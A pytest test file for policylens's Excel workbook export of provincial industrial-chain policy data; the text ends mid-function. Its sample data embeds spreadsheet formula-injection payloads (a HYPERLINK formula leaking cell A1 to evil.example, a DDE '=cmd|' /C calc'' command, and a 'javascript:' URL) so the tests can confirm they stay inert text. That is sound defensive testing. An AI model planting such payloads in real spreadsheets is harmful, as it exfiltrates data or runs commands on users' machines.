"""The Excel summary: sheets, headers, formats, values, safety, reproducibility, atomicity."""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import zipfile
from pathlib import Path

import pytest

openpyxl = pytest.importorskip("openpyxl")
pd = pytest.importorskip("pandas")

from policylens import excel  # noqa: E402
from policylens.errors import OutputError  # noqa: E402
from policylens.excel import workbook  # noqa: E402
from policylens.excel.views import YI_COLUMNS  # noqa: E402
from policylens.model.schema import TABLES, conform  # noqa: E402
from policylens.overtime.attainment import attainment  # noqa: E402
from policylens.pipeline import read_table_csv, table_to_csv_bytes  # noqa: E402

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    " leading and trailing ",
]
SEVENTEEN_DIGITS = 0.1 + 0.2  # 0.30000000000000004: "%.16g" would write 0.3
DATA_SHEETS = ["Documents", "Targets", "Actuals", "Chains", "Modes", "Mode actors", "Milestones"]
MONEY = {name for name, *_ in excel.MONEY_COLUMNS} | {  # shown beside the yuan, not in the CSV
    f"{name}_yi" for names in YI_COLUMNS.values() for name in names
}

SHA = {
    "jiangxi_chains_2023_2026": "6215c2725f8e95d9418597464e5ec4430e8f0b54aca3e4d8b87d424fcdeda092",
    "shanxi_chain_chief_2024": "046b18af0111864bb68c201632aa151da3ca97acb97d2ef90cdae4f2d4b886f8",
}


def _target(n, doc, province, scope_zh, scope, chain, indicator, value, stretch, unit, comp,
            commit, year, quote, start):  # fmt: skip
    return {
        "target_id": f"{doc}:{n}",
        "doc_id": doc,
        "province": province,
        "scope_zh": scope_zh,
        "scope": scope,
        "chain": chain,
        "indicator": indicator,
        "value": value,
        "value_stretch": stretch,
        "unit": unit,
        "comparator": comp,
        "commitment": commit,
        "target_year": year,
        "period": str(year) if year else None,
        "deadline": f"{year}-12-31" if year else None,
        "quote": quote,
        "char_start": start,
        "char_end": start + len(quote),
        "origin": "extracted",
        "per": None,  # a total, not a value per city, chain …
    }


def sample_tables(hostile: bool = True) -> dict[str, pd.DataFrame]:
    """Small tables modelled on the corpus, typed through the schema; hostile text inside."""
    jx, sx = "jiangxi_chains_2023_2026", "shanxi_chain_chief_2024"
    evil = HOSTILE if hostile else ["正常文本"] * len(HOSTILE)
    documents = pd.DataFrame(
        [
            {
                "doc_id": jx,
                "province": "Jiangxi",
                "province_zh": "江西",
                "title_zh": "江西省制造业重点产业链现代化建设“1269”行动计划（2023-2026年）",
                "title_en": evil[0],
                "issuer_zh": "江西省人民政府",
                "doc_number": None,
                "issued": None,
                "status": "final",
                "horizon_start": 2023,
                "horizon_end": 2026,
                "source_url": "https://guangfu.bjx.com.cn/news/20230811/1325131.shtml",
                "file": f"texts/{jx}.txt",
                "sha256": SHA[jx],
                "note": evil[5],
            },
            {
                "doc_id": sx,
                "province": "Shanxi",
                "province_zh": "山西",
                "title_zh": evil[5],
                "title_en": "Shanxi Key Industrial Chain Chain Chief System Action Plan 2024",
                "issuer_zh": "山西省重点产业链链长制领导小组办公室",
                "doc_number": evil[7],
                "issued": "2024-01-12",
                "status": "final",
                "horizon_start": 2024,
                "horizon_end": 2024,
                "source_url": None,
                "file": f"texts/{sx}.txt",
                "sha256": SHA[sx],
                "note": None,
            },
        ]
    )
    targets = pd.DataFrame(
        [
            _target(1, jx, "Jiangxi", "新能源产业链", "new energy chain", "new_energy", "revenue",
                    7e11, None, "CNY", "=", "aspirational", 2026,
                    "全省新能源产业链营业收入力争达到7000亿元", 100),
            _target(2, jx, "Jiangxi", "锂电产业链", "lithium battery chain", "lithium_battery",
                    "revenue", 3.5e11, 4.5e11, "CNY", ">", "firm", 2026,
                    "锂电产业链营业收入超过3500亿元、力争达到4500亿元", 130),
            _target(3, jx, "Jiangxi", "光伏产业链", "photovoltaic chain", "photovoltaic",
                    "revenue", 2e11, 2.5e11, "CNY", "=", "firm", 2026,
                    "光伏产业链营业收入达到2000亿元、力争达到2500亿元", 160),
            _target(4, jx, "Jiangxi", "重点产业链", "key chains", None, "chain_count", 16.0,
                    20.0, "count", ">=", "aspirational", 2026, evil[1], 200),
            _target(5, jx, "Jiangxi", "链主企业", "chain-leader firms", None, "enterprise_count",
                    1234.0, None, "count", ">=", "firm", None, evil[2], 220),
            _target(1, sx, "Shanxi", "光伏产业链", "photovoltaic chain", "photovoltaic",
                    "revenue", 123456789.5, None, "CNY", ">", "firm", 2024, evil[0], 10),
            _target(2, sx, "Shanxi", "研发投入", "R&D spending", None, "growth_rate", 12.5,
                    SEVENTEEN_DIGITS, "percent", "~", "firm", 2024, evil[4], 40),
            _target(3, sx, "Shanxi", "项目", "projects", None, "project_count", 150.0, None,
                    "count", ">=", "firm", 2024, evil[3], 60),
        ]
    )  # fmt: skip
    chains = pd.DataFrame(
        [
            {"doc_id": jx, "province": "Jiangxi", "chain_zh": "有色金属", "label": "non-ferrous",
             "chain": "nonferrous", "level": "chain", "parent": None, "count": 1,
             "quote": "有色金属", "char_start": 5, "char_end": 9},
            {"doc_id": jx, "province": "Jiangxi", "chain_zh": "电子信息", "label": "electronics",
             "chain": "electronics", "level": "chain", "parent": None, "count": 1,
             "quote": evil[6], "char_start": 10, "char_end": 14},
            {"doc_id": sx, "province": "Shanxi", "chain_zh": "重点产业链", "label": "key chains",
             "chain": None, "level": "chain", "parent": None, "count": 16,
             "quote": "16条重点产业链", "char_start": 3, "char_end": 11},
        ]
    )  # fmt: skip
    modes = pd.DataFrame(
        [
            {"mode_id": f"{sx}:m1", "doc_id": sx, "province": "Shanxi",
             "mode_zh": "政府+链主+园区", "mode_key": "chain_leader_firm+government+park",
             "kind": "collaboration", "purpose_zh": "招商", "purpose": evil[8],
             "mentions": 2, "quote": evil[5], "char_start": 50, "char_end": 60},
            {"mode_id": f"{sx}:m2", "doc_id": sx, "province": "Shanxi", "mode_zh": "线上+线下",
             "mode_key": "offline+online", "kind": "other", "purpose_zh": None,
             "purpose": None, "mentions": 1, "quote": "线上+线下", "char_start": 70,
             "char_end": 75},
            {"mode_id": f"{jx}:m1", "doc_id": jx, "province": "Jiangxi",
             "mode_zh": "链主+基金", "mode_key": "chain_leader_firm+fund",
             "kind": "collaboration", "purpose_zh": "培育", "purpose": "nurturing",
             "mentions": 1, "quote": "链主+基金", "char_start": 300, "char_end": 305},
        ]
    )  # fmt: skip
    actors = [
        (f"{sx}:m1", sx, "Shanxi", "chain_leader_firm+government+park", "government", "政府", 1),
        (f"{sx}:m1", sx, "Shanxi", "chain_leader_firm+government+park", "chain_leader_firm",
         "链主", 2),
        (f"{sx}:m1", sx, "Shanxi", "chain_leader_firm+government+park", "park", "园区", 3),
        (f"{jx}:m1", jx, "Jiangxi", "chain_leader_firm+fund", "chain_leader_firm", "链主", 1),
        (f"{jx}:m1", jx, "Jiangxi", "chain_leader_firm+fund", "fund", "基金", 2),
    ]  # fmt: skip
    mode_actors = pd.DataFrame(actors, columns=TABLES["mode_actors"].column_names)
    milestones = pd.DataFrame(
        [
            {"milestone_id": f"{sx}:t1", "doc_id": sx, "province": "Shanxi", "period": "2024",
             "deadline": "2024-12-31", "recurring": None, "action_zh": "年底前完成",
             "quote": "年底前完成", "char_start": 90, "char_end": 95},
            {"milestone_id": f"{sx}:t2", "doc_id": sx, "province": "Shanxi",
             "period": "2024Q1", "deadline": "2024-03-31", "recurring": "quarterly",
             "action_zh": evil[0], "quote": "2024年一季度", "char_start": 95, "char_end": 103},
            {"milestone_id": f"{jx}:t1", "doc_id": jx, "province": "Jiangxi", "period": None,
             "deadline": None, "recurring": None, "action_zh": "适时评估",
             "quote": "适时评估", "char_start": 400, "char_end": 404},
        ]
    )  # fmt: skip
    actuals = pd.DataFrame(
        [
            {"actual_id": f"{sx}:a1", "doc_id": sx, "province": "Shanxi", "scope_zh": "光伏产业",
             "scope": "photovoltaic industry", "chain": "photovoltaic", "indicator": "revenue",
             "value": 8.6e10, "unit": "CNY", "per": None, "comparator": "=", "year": 2023,
             "period": "2023", "as_of": "2023-12-31", "quote": evil[1], "char_start": 10,
             "char_end": 20, "origin": "extracted"},
            {"actual_id": f"{jx}:a1", "doc_id": jx, "province": "Jiangxi",
             "scope_zh": "链上企业", "scope": None, "chain": None,
             "indicator": "enterprise_count", "value": 120.0, "unit": "count", "per": None,
             "comparator": ">", "year": None, "period": None, "as_of": "2023-05-06",
             "quote": "现有链上企业120家以上", "char_start": 30, "char_end": 42,
             "origin": "extracted"},
        ]
    )  # fmt: skip
    frames = {
        "documents": documents,
        "targets": targets,
        "actuals": actuals,
        "chains": chains,
        "modes": modes,
        "mode_actors": mode_actors,
        "milestones": milestones,
    }
    tables = {name: conform(frame, name) for name, frame in frames.items()}
    revision = {
        "revision_id": f"{sx}:r1", "province": "Shanxi", "indicator": "revenue", "unit": "CNY",
        "chain": "photovoltaic", "scope_zh": "光伏产业", "earlier_doc": "shanxi_pv_2023",
        "later_doc": sx, "earlier_value": 6.0e10, "later_value": 8.6e10, "earlier_year": 2024,
        "later_year": 2024, "change": "raised", "why": evil[0], "origin": "matched",
    }  # fmt: skip
    tables["revisions"] = conform(pd.DataFrame([revision]), "revisions")
    tables["attainment"] = attainment(
        tables["targets"], tables["actuals"], documents=documents, reference_date="2024-06-30"
    )
    return tables


def test_revisions_and_attainment_sheets_show_money_in_yi_and_text_as_text(sample_book):
    revisions = pd.read_excel(sample_book, sheet_name="Revisions", header=1)
    assert revisions[["earlier_value_yi", "later_value_yi"]].values.tolist() == [[600.0, 860.0]]
    assert revisions["why"].tolist() == [HOSTILE[0]]  # a formula-like text stays text
    attainment = pd.read_excel(sample_book, sheet_name="Attainment", header=1)
    targets = sample_tables()["targets"]
    assert sorted(attainment["target_id"]) == sorted(targets["target_id"])
    assert set(attainment["status"]) <= {"met", "not_met", "not_yet_due", "no_outcome"}
    money = attainment["unit"] == "CNY"
    assert (attainment.loc[money, "value_yi"] == attainment.loc[money, "value"] / 1e8).all()
    heading = openpyxl.load_workbook(sample_book)["Attainment"]
    assert [c.value for c in heading[1]][-4:] == [
        "Met?",
        "Stretch met?",
        "Judged at",
        "What the status rests on",
    ]


def sample_review(n: int = 1) -> pd.DataFrame:
    """A candidates table of ``n`` rows (what awaits a decision), the first with a hostile quote."""
    row = sample_tables()["targets"].iloc[[0] * n].drop(columns=["target_id", "origin"])
    row = row.assign(
        candidate_id=[f"jiangxi_chains_2023_2026:c{i}" for i in range(1, n + 1)],
        quote=["=2+2 审核", *[f"候选{i}" for i in range(2, n + 1)]],
        char_start=range(10, 10 + n),
        status="unreviewed",
        needs_review=True,
        review_reason="unit unclear",
    )
    return conform(row, "candidates")


def with_review(tables: dict[str, pd.DataFrame], n: int = 1) -> dict[str, pd.DataFrame]:
    return {**tables, "candidates": sample_review(n)}


@pytest.fixture(scope="module")
def sample_png(tmp_path_factory) -> list[Path]:
    from PIL import Image

    folder = tmp_path_factory.mktemp("figs")
    paths = []
    for name, size in (("b_revenue_zh.png", (1000, 560)), ("a_revenue_en.png", (400, 300))):
        path = folder / name
        Image.new("RGB", size, (200, 30, 30)).save(path)
        paths.append(path)
    (folder / "a_revenue_en.svg").write_text("<svg/>")
    return [*paths, folder / "a_revenue_en.svg"]


@pytest.fixture(scope="module")
def sample_book(tmp_path_factory, sample_png) -> Path:
    path = tmp_path_factory.mktemp("xlsx") / "summary.xlsx"
    excel.write_workbook(
        with_review(sample_tables()),
        path,
        figures=sample_png,
        build_info={"policylens_version": "9.9.9", "documents": SHA},
    )
    return path


def _csv_round_trip(frame: pd.DataFrame, table: str, tmp_path: Path) -> pd.DataFrame:
    path = tmp_path / f"{table}.csv"
    path.write_bytes(table_to_csv_bytes(frame, table))
    return read_table_csv(path, table)


def _read_sheet(path: Path | pd.ExcelFile, sheet: str, table: str) -> pd.DataFrame:
    # keep_default_na=False: text such as "#N/A" or "NA" is text, not a missing value
    # and text columns are read as text (else pandas turns a period "2024" into a number)
    text = {c.name: str for c in TABLES[table].columns if c.type in ("string", "category")}
    raw = pd.read_excel(
        path, sheet_name=sheet, header=1, keep_default_na=False, na_values=[""], dtype=text
    )
    return conform(raw, table)


def _all_text(ws) -> str:
    return "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)


# --------------------------------------------------------------------------- structure


def test_sheets_in_order(sample_book):
    wb = openpyxl.load_workbook(sample_book)
    assert wb.sheetnames == list(excel.SHEETS)
    assert wb.sheetnames[0] == "README"
    assert wb.sheetnames == [
        "README", "Documents", "Targets", "Actuals", "Revenue goals", "Chain counts", "Chains",
        "Collaboration modes", "Modes", "Mode actors", "Milestones", "Revisions", "Attainment",
        "Review", "Figures",
    ]  # fmt: skip


def test_data_sheet_headers_are_schema_columns_bold_frozen_filtered(sample_book):
    wb = openpyxl.load_workbook(sample_book)
    for table, sheet in excel.DATA_SHEETS.items():
        ws = wb[sheet]
        header = [c.value for c in ws[2] if c.value not in MONEY]
        assert header == TABLES[table].column_names, sheet
        assert all(c.font.bold for c in ws[2]), sheet
        assert all(c.data_type == "s" for c in ws[2]), sheet
        assert ws.freeze_panes == "A3", sheet
        (tbl,) = ws.tables.values()
        assert tbl.displayName == table
        assert tbl.ref.startswith("A2:")
        assert tbl.autoFilter is not None and tbl.autoFilter.ref == tbl.ref


def test_every_table_sheet_has_a_table_and_sensible_widths(sample_book):
    wb = openpyxl.load_workbook(sample_book)
    names = set()
    for sheet in ("Revenue goals", "Chain counts", "Collaboration modes", "Review"):
        ws = wb[sheet]
        (tbl,) = ws.tables.values()
        names.add(tbl.displayName)
        assert ws.freeze_panes == "A3"
    assert names == {"revenue_goals", "chain_counts", "collaboration_modes", "review"}
    ws = wb["Targets"]
    widths = {c.value: ws.column_dimensions[c.column_letter].width for c in ws[2]}
    assert widths["quote"] <= 60 and widths["quote"] >= 30  # CJK counts double
    assert widths["unit"] < 12
    quote = ws.cell(3, [c.value for c in ws[2]].index("quote") + 1)
    assert quote.alignment.wrap_text


def test_number_and_date_formats(sample_book):
    wb = openpyxl.load_workbook(sample_book)
    ws = wb["Targets"]
    col = {c.value: c.column for c in ws[2]}
    rows = {ws.cell(r, col["target_id"]).value: r for r in range(3, ws.max_row + 1)}

    def cell(target_id, name):
        return ws.cell(rows[target_id], col[name])

    money = cell("jiangxi_chains_2023_2026:2", "value")
    assert money.value == 3.5e11 and money.number_format == '">"#,##0'  # 超过3500亿元
    assert cell("jiangxi_chains_2023_2026:2", "value_stretch").number_format == "#,##0"
    assert cell("shanxi_chain_chief_2024:1", "value").value == 123456789.5  # not rounded
    assert cell("shanxi_chain_chief_2024:1", "value").number_format == '">"#,##0.0'
    assert cell("shanxi_chain_chief_2024:2", "value").number_format == '"~"0.0'  # percent
    assert cell("shanxi_chain_chief_2024:2", "value_stretch").value == SEVENTEEN_DIGITS
    assert cell("jiangxi_chains_2023_2026:5", "value").number_format == '"≥"#,##0'  # count
    assert cell("jiangxi_chains_2023_2026:1", "target_year").number_format == "0"  # not 2,026
    deadline = cell("jiangxi_chains_2023_2026:1", "deadline")
    assert deadline.is_date and deadline.number_format == "yyyy-mm-dd"
    assert deadline.value == dt.datetime(2026, 12, 31)
    docs = wb["Documents"]
    issued = docs.cell(4, TABLES["documents"].column_names.index("issued") + 1)
    assert issued.is_date and issued.value == dt.datetime(2024, 1, 12)
    assert docs.cell(3, TABLES["documents"].column_names.index("issued") + 1).value is None
    chains = wb["Chains"]
    count = chains.cell(3, TABLES["chains"].column_names.index("count") + 1)
    assert count.number_format == "#,##0"


def test_revenue_goals_pivot(sample_book):
    frame = pd.read_excel(sample_book, sheet_name="Revenue goals", header=1)
    assert list(frame.columns) == [
        "chain", "scope", "scope_zh", "value",
        "Jiangxi 2026 (亿元)", "Shanxi 2024 (亿元)",
        "Jiangxi 2026 (CNY bn)", "Shanxi 2024 (CNY bn)", "target_id",
    ]  # fmt: skip
    by = frame.set_index(["chain", "value"])
    assert by.loc[("new_energy", "floor"), "Jiangxi 2026 (亿元)"] == 7000
    assert by.loc[("new_energy", "floor"), "Jiangxi 2026 (CNY bn)"] == 700
    assert by.loc[("lithium_battery", "floor"), "Jiangxi 2026 (亿元)"] == 3500
    assert by.loc[("lithium_battery", "stretch"), "Jiangxi 2026 (亿元)"] == 4500
    assert by.loc[("photovoltaic", "floor"), "Shanxi 2024 (亿元)"] == pytest.approx(1.234567895)
    assert ("new_energy", "stretch") not in by.index
    assert frame["chain"].iloc[0] == "new_energy"  # largest goal first
    ws = openpyxl.load_workbook(sample_book)["Revenue goals"]
    assert ws["E3"].value == 7000 and ws["E3"].number_format == "#,##0"  # not 7,000.00
    assert ws["E3"].font.i  # new energy 7000亿元 is aspirational (力争)
    shown = {(r[0].value, r[3].value): r for r in ws.iter_rows(min_row=3)}
    lithium = shown[("lithium_battery", "floor")][4]
    assert lithium.value == 3500 and lithium.number_format == '">"#,##0'  # 超过3500亿元
    assert shown[("lithium_battery", "stretch")][4].number_format == "#,##0"
    pv = shown[("photovoltaic", "floor")][5]
    assert pv.number_format == '">"#,##0.0000'  # 1.2345… 亿元: as many decimals as it has


def test_chain_counts_and_mode_matrix(sample_book):
    counts = pd.read_excel(sample_book, sheet_name="Chain counts", header=1)
    named = counts[counts["basis"] == "named"].set_index("doc_id")
    assert named.loc["jiangxi_chains_2023_2026", "count"] == 2
    assert named.loc["jiangxi_chains_2023_2026", "what_zh"] == "有色金属、电子信息"
    assert named.loc["shanxi_chain_chief_2024", "count"] == 16
    targeted = counts[counts["basis"] == "target"].set_index("target_id")
    assert targeted.loc["jiangxi_chains_2023_2026:4", "count_stretch"] == 20
    assert targeted.loc["jiangxi_chains_2023_2026:5", "count"] == 1234
    assert set(targeted["measure"]) == {"chain_count", "enterprise_count", "project_count"}

    matrix = pd.read_excel(sample_book, sheet_name="Collaboration modes", header=1)
    assert list(matrix.columns[-4:]) == ["chain_leader_firm", "fund", "government", "park"]
    assert len(matrix) == 2  # 线上+线下 is not collaboration
    shanxi = matrix.set_index("mode_zh").loc["政府+链主+园区"]
    assert shanxi["government"] == 1 and shanxi["park"] == 1 and pd.isna(shanxi["fund"])


def test_actuals_sheet_shows_money_in_yi_beside_the_yuan(sample_book):
    actuals = pd.read_excel(sample_book, sheet_name="Actuals", header=1)
    assert actuals["actual_id"].tolist() == [
        "jiangxi_chains_2023_2026:a1",
        "shanxi_chain_chief_2024:a1",
    ]
    assert actuals.loc[actuals["unit"] == "CNY", "value_yi"].tolist() == [860.0]
    assert actuals.loc[actuals["unit"] == "count", "value_yi"].isna().all()
    assert "value_stretch_yi" not in actuals.columns


def test_milestones_in_date_order(sample_book):
    frame = pd.read_excel(sample_book, sheet_name="Milestones", header=1)
    assert list(frame["milestone_id"]) == [
        "shanxi_chain_chief_2024:t2",
        "shanxi_chain_chief_2024:t1",
        "jiangxi_chains_2023_2026:t1",
    ]


# --------------------------------------------------------------------------- values


def test_every_data_sheet_round_trips(sample_book, tmp_path):
    tables = sample_tables()
    book = pd.ExcelFile(sample_book)
    for table, sheet in excel.DATA_SHEETS.items():
        expected = _csv_round_trip(tables[table], table, tmp_path)
        got = _read_sheet(book, sheet, table)
        pd.testing.assert_frame_equal(got, expected, check_exact=True, obj=sheet)


def test_hostile_text_stays_text_and_reads_back_exactly(sample_book):
    wb = openpyxl.load_workbook(sample_book)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    seen.add(cell.value)
                    assert cell.data_type == "s"
                    if cell.value[0] in "=+-@\t":
                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
    assert seen == set(HOSTILE)
    targets = pd.read_excel(sample_book, sheet_name="Targets", header=1)
    assert set(HOSTILE[:5]) <= set(targets["quote"])
    review = pd.read_excel(sample_book, sheet_name="Review", header=1)
    assert review["quote"].tolist() == ["=2+2 审核"]
    with zipfile.ZipFile(sample_book) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
            assert "externalLink" not in name


def test_error_like_text_is_not_an_error_value(sample_book):
    wb = openpyxl.load_workbook(sample_book)
    ws = wb["Documents"]
    cell = ws.cell(4, TABLES["documents"].column_names.index("doc_number") + 1)
    assert cell.value == "#N/A" and cell.data_type == "s"


def test_links_are_hyperlink_attributes(sample_book):
    wb = openpyxl.load_workbook(sample_book)
    ws = wb["Targets"]
    col = TABLES["targets"].column_names.index("doc_id") + 1
    links = {}
    for r in range(3, ws.max_row + 1):
        cell = ws.cell(r, col)
        links[cell.value] = cell.hyperlink.target if cell.hyperlink else None
        assert cell.data_type == "s"
    assert links == {
        "jiangxi_chains_2023_2026": "https://guangfu.bjx.com.cn/news/20230811/1325131.shtml",
        "shanxi_chain_chief_2024": None,
    }


def test_only_web_links_become_hyperlinks(tmp_path):
    tables = sample_tables(hostile=False)
    tables["documents"].loc[0, "source_url"] = "javascript:alert(1)"
    path = tmp_path / "x.xlsx"
    excel.write_workbook(tables, path)
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.hyperlink and cell.hyperlink.target:
                    assert cell.hyperlink.target.startswith("https://"), ws.title
    docs = wb["Documents"]
    assert docs.cell(3, TABLES["documents"].column_names.index("source_url") + 1).value == (
        "javascript:alert(1)"
    )


def test_illegal_control_character_is_a_clear_error(tmp_path, monkeypatch):
    import tempfile

    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))  # where write-only sheets stream to
    tables = sample_tables(hostile=False)
    tables["targets"].loc[0, "quote"] = "bad\x0bchar"
    path = tmp_path / "x.xlsx"
    with pytest.raises(OutputError, match="U\\+000B") as info:
        excel.write_workbook(tables, path)
    assert re.search(r"to Targets![A-Z]+3:", str(info.value))  # the cell of the first row
    assert not path.exists()
    assert list(temp.iterdir()) == []  # the sheets already streamed are removed


# --------------------------------------------------------------------------- README


def test_readme_explains_the_workbook(sample_book):
    ws = openpyxl.load_workbook(sample_book)["README"]
    text = _all_text(ws)
    for sheet in excel.SHEETS:
        assert sheet in text
    tables = sample_tables()
    for doc in tables["documents"].itertuples():
        assert doc.doc_id in text and doc.title_zh in text
    for word in ("亿元", "yuan", "CNY bn", "percent", "yyyy-mm-dd", "cite", "quote"):
        assert word in text, word
    assert "policylens 9.9.9" in text
    assert excel.input_fingerprint(SHA) in text
    assert "2024-01-12" in text  # corpus as of: newest issue date
    assert "no build date" in text  # and why
    assert "1 extracted candidate target still await" in text
    for table in excel.DATA_SHEETS:
        for column in TABLES[table].columns:
            assert column.description[:40] in text, column.name
    # a README cell that quotes a document is still text
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_readme_and_review_when_nothing_is_pending(tmp_path):
    path = tmp_path / "x.xlsx"
    excel.write_workbook(sample_tables(hostile=False), path)
    wb = openpyxl.load_workbook(path)
    assert "Nothing is awaiting review" in _all_text(wb["Review"])
    assert "Nothing is awaiting review" in _all_text(wb["README"])
    assert not wb["Review"].tables
    assert "No figures" in _all_text(wb["Figures"])


def test_empty_tables_give_a_valid_workbook(tmp_path):
    from policylens.model.schema import empty_frame

    tables = {name: empty_frame(name) for name in TABLES}
    tables["documents"] = sample_tables(hostile=False)["documents"].assign(issued=pd.NaT)
    path = tmp_path / "empty.xlsx"
    excel.write_workbook(tables, path)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == list(excel.SHEETS)
    for table, sheet in excel.DATA_SHEETS.items():
        assert [c.value for c in wb[sheet][2] if c.value not in MONEY] == TABLES[table].column_names
        assert len(_read_sheet(path, sheet, table)) == (2 if table == "documents" else 0)
        (tbl,) = wb[sheet].tables.values()
        if table != "documents":
            assert tbl.ref.endswith("3")  # header and one empty row: what Excel expects
    assert "no document states its issue date" in _all_text(wb["README"])


def test_figures_are_embedded(sample_book, sample_png):
    wb = openpyxl.load_workbook(sample_book)
    ws = wb["Figures"]
    assert len(ws._images) == 2  # the SVG is not embedded
    assert [c.value for c in ws["A"] if c.value] == ["a_revenue_en.png", "b_revenue_zh.png"]
    with zipfile.ZipFile(sample_book) as archive:
        media = sorted(n for n in archive.namelist() if n.startswith("xl/media/"))
        assert len(media) == 2
        assert {archive.read(n) for n in media} == {p.read_bytes() for p in sample_png[:2]}


def test_large_figures_are_scaled_down_and_huge_ones_linked(tmp_path):
    from PIL import Image

    from policylens.errors import FigureNotEmbeddedWarning

    tall, wide, huge = tmp_path / "a_tall.png", tmp_path / "b_wide.png", tmp_path / "c_huge.png"
    Image.new("RGB", (1500, 4000), "white").save(tall)
    Image.new("RGB", (3200, 900), "navy").save(wide)
    # a PNG whose header says 1500 x 124,380 px (the timeline of ~960 documents): it is
    # never decoded, so its pixels need not exist
    Image.new("RGB", (1500, 30), "white").save(huge)
    data = bytearray(huge.read_bytes())
    data[20:24] = (124_380).to_bytes(4, "big")
    huge.write_bytes(bytes(data))
    path = tmp_path / "book.xlsx"
    with pytest.warns(FigureNotEmbeddedWarning, match="124,380"):
        excel.write_workbook(sample_tables(), path, figures=[tall, wide, huge])
    with zipfile.ZipFile(path) as archive:
        media = [archive.read(n) for n in archive.namelist() if n.startswith("xl/media/")]
    sizes = sorted(Image.open(io.BytesIO(m)).size for m in media)
    assert sizes == [(600, 1600), (1600, 450)]  # long side 1600 px, proportions kept
    ws = openpyxl.load_workbook(path)["Figures"]
    linked = [c for c in ws["A"] if c.hyperlink is not None]
    assert [c.hyperlink.target for c in linked] == ["c_huge.png"]


def test_text_longer_than_a_cell_is_cut_with_a_note():
    ids = "; ".join(f"gen_doc_{n:05d}:{k}" for n in range(3000) for k in range(3))
    assert len(ids) > 124_000
    cut = excel.clip_text(ids, "targets.csv")
    assert len(cut) <= 32_767 and cut.endswith("more; see targets.csv)")
    head, note = cut.rsplit("; … (", 1)
    kept = head.split("; ")
    assert ids.startswith(head + "; ")  # whole ids only
    more = int(note.split()[0])
    assert len(kept) + more == 9000
    prose = "很长的文本" * 10_000
    cut = excel.clip_text(prose, "chains.csv")
    assert len(cut) <= 32_767 and prose.startswith(cut.split(" … (")[0])
    assert cut.endswith("more characters; see chains.csv)")
    assert excel.clip_text("短", "x") == "短"


def test_a_quote_longer_than_a_cell_is_written_cut(tmp_path):
    tables = sample_tables(hostile=False)
    tables["targets"] = tables["targets"].copy()
    tables["targets"].loc[0, "quote"] = "到2026年" + "营业收入" * 10_000
    path = tmp_path / "long.xlsx"
    excel.write_workbook(tables, path)
    ws = openpyxl.load_workbook(path)["Targets"]
    column = next(c.column_letter for c in ws[2] if c.value == "quote")
    longest = max((c.value for c in ws[column] if isinstance(c.value, str)), key=len)
    assert len(longest) <= 32_767 and longest.endswith("more characters; see targets.csv)")


# --------------------------------------------------------------------------- file


def test_rewrite_is_byte_identical(tmp_path, sample_png):
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    excel.write_workbook(with_review(sample_tables()), first, figures=sample_png)
    os.utime(sample_png[0], (0, 0))  # file times must not matter
    excel.write_workbook(with_review(sample_tables()), second, figures=sample_png)
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert "2024-01-12T00:00:00Z" in core  # corpus as of, not the clock
    if os.name == "posix":
        mask = os.umask(0)
        os.umask(mask)
        assert first.stat().st_mode & 0o777 == 0o666 & ~mask  # an ordinary file, not 0600


def test_failure_mid_write_leaves_previous_file(tmp_path, monkeypatch):
    path = tmp_path / "summary.xlsx"
    excel.write_workbook(sample_tables(hostile=False), path)
    before = path.read_bytes()

    def boom(*args, **kwargs):
        raise RuntimeError("disk on fire")

    with monkeypatch.context() as m:
        m.setattr(workbook, "_write_figures", boom)
        with pytest.raises(RuntimeError):
            excel.write_workbook(sample_tables(), path)
    assert path.read_bytes() == before

    def refuse(src, dst):
        raise PermissionError(13, "Permission denied")

    with monkeypatch.context() as m:
        m.setattr(os, "replace", refuse)
        with pytest.raises(OutputError) as info:
            excel.write_workbook(sample_tables(), path)
    message = str(info.value)
    assert str(path) in message and "close it" in message and "intact" in message
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["summary.xlsx"]  # no temp left


def test_folder_that_cannot_exist_is_an_output_error(tmp_path):
    blocker = tmp_path / "not_a_folder"
    blocker.write_text("a file where the folder should be")
    with pytest.raises(OutputError, match="not_a_folder"):
        excel.write_workbook(sample_tables(hostile=False), blocker / "x.xlsx")
    assert blocker.read_text() == "a file where the folder should be"


@pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="needs POSIX permissions")
def test_unwritable_folder_is_an_output_error(tmp_path):
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(OutputError, match="writable"):
            excel.write_workbook(sample_tables(hostile=False), folder / "x.xlsx")
    finally:
        folder.chmod(0o700)


def test_workbook_is_a_valid_zip_with_content_types(sample_book):
    data = sample_book.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        assert "[Content_Types].xml" in archive.namelist()


# --------------------------------------------------------------------------- the built project


@pytest.fixture(scope="module")
def exported(built_project, tmp_path_factory) -> Path:
    """The Excel summary of the bundled corpus, written by ``pl.to_excel``."""
    import policylens as pl

    path = tmp_path_factory.mktemp("export") / "summary.xlsx"
    assert pl.to_excel(path, root=built_project) == path.resolve()
    return path


def test_built_workbook_round_trips_every_table(exported, built_project):
    processed = built_project / "data" / "processed"
    book = pd.ExcelFile(exported)
